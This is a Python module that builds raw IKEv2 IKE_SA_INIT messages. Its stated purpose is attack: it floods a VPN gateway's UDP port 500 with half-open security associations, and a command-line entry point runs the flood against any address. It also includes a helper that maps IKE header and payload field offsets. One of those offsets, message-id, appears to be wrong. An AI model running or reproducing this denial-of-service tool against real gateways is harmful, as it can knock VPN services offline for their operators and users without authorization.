# SPDX-License-Identifier: GPL-3.0-or-later
"""ikemsg.py - just enough of IKEv2's wire format for an attacker: half-open SAs and the places of fields."""

import os
import socket
import struct

IKE_SA_INIT, IKE_AUTH, CREATE_CHILD_SA, INFORMATIONAL = 34, 35, 36, 37
SA, KE, NONCE, NOTIFY = 33, 34, 40, 41


def payload(following, body):
    return struct.pack('!BBH', following, 0, 4 + len(body)) + body


def init_request(spi):
    """An IKE_SA_INIT request with AES-GCM-256, PRF-SHA-384 and group 19."""
    transforms = [(1, 20, 256), (2, 6, None), (4, 19, None)]
    coded = b''
    for number, (kind, ident, bits) in enumerate(transforms):
        attribute = struct.pack('!HH', 0x800e, bits) if bits else b''
        coded += struct.pack('!BBHBBH', 3 if number < len(transforms) - 1 else 0, 0, 8 + len(attribute), kind, 0,
                             ident) + attribute
    proposal = struct.pack('!BBHBBBB', 0, 0, 8 + len(coded), 1, 1, 0, len(transforms)) + coded
    # The base point of P-256: a value that every gateway accepts.
    point = bytes.fromhex('6b17d1f2e12c4247f8bce6e563a440f277037d812deb33a0f4a13945d898c296'
                          '4fe342e2fe1a7f9b8ee7eb4a7c0f9e162bce33576b315ececbb6406837bf51f5')
    body = payload(KE, proposal) + payload(NONCE, struct.pack('!HH', 19, 0) + point) + payload(0, os.urandom(32))
    return spi + bytes(8) + struct.pack('!BBBBII', SA, 0x20, IKE_SA_INIT, 0x08, 0, 28 + len(body)) + body


def half_open(address, count):
    """Opens count IKE SAs at a gateway and leaves them; to be run on another machine than the laptop."""
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
        for _ in range(count):
            s.sendto(init_request(os.urandom(8)), (address, 500))


def places(message):
    """{name: offset} of the fields of an IKE message: header, and each payload's first content octet."""
    found = {'spi-i': 0, 'version': 17, 'exchange': 18, 'flags': 19, 'message-id': 23}
    kind, at = message[16], 28
    while kind and at + 4 <= len(message):
        following, size = message[at], struct.unpack_from('!H', message, at + 2)[0]
        name = {SA: 'sa', KE: 'ke', NONCE: 'nonce', NOTIFY: 'notify', 46: 'sk'}.get(kind, f'payload-{kind}')
        while name in found:
            name += '+'
        found[name] = at + 4
        if size < 4 or kind == 46:
            break
        kind, at = following, at + size
    return found


if __name__ == '__main__':
    import sys
    half_open(sys.argv[1], int(sys.argv[2]))
